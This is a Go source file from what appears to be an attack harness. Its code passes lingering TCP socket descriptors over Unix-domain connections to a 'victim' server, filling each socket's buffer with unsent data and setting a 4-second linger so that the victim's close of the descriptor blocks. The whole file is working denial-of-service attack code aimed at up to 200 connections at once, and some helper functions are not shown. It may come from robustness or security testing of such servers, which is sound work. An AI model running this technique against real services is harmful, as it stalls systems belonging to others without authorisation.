package main

import (
	"context"
	"errors"
	"net"
	"syscall"
	"time"
)

// lingerTime is how long the close of a socket lasts that is passed to the victim.
const lingerTime = 4

// passDescriptors passes to each connection a socket whose close lingers.
func passDescriptors(a *attacker) {
	a.each(a.some(200), false, func(conn *net.UnixConn) { a.sendLingering(conn, unary(1, "Echo", nil)) })
}

// sendLingering sends b with a descriptor, and without one where the victim's kernel
// refuses it.
func (a *attacker) sendLingering(conn *net.UnixConn, b []byte) bool {
	near, far, err := lingering()
	if err != nil {
		return send(conn, b)
	}
	defer near.Close()
	a.hold(far) // which reads nothing
	file, err := near.File()
	if err != nil {
		return send(conn, b)
	}
	defer file.Close()
	_, _, err = conn.WriteMsgUnix(b, syscall.UnixRights(int(file.Fd())), nil)
	if errors.Is(err, syscall.EPERM) {
		return send(conn, b)
	}
	return err == nil
}

// lingering returns a connection over TCP with unsent data, whose last close waits for
// lingerTime.
func lingering() (near, far *net.TCPConn, err error) {
	small := net.ListenConfig{Control: func(_, _ string, c syscall.RawConn) error {
		return c.Control(func(fd uintptr) { _ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 4096) })
	}}
	l, err := small.Listen(context.Background(), "tcp", "127.0.0.1:0")
	if err != nil {
		return nil, nil, err
	}
	defer l.Close()
	conn, err := net.Dial("tcp", l.Addr().String())
	if err != nil {
		return nil, nil, err
	}
	accepted, err := l.Accept()
	if err != nil {
		conn.Close()
		return nil, nil, err
	}
	near = conn.(*net.TCPConn)
	near.SetWriteBuffer(4096)
	near.SetWriteDeadline(time.Now().Add(5 * time.Millisecond))
	for err == nil { // until no more fits
		_, err = near.Write(make([]byte, 64<<10))
	}
	return near, accepted.(*net.TCPConn), near.SetLinger(lingerTime)
}
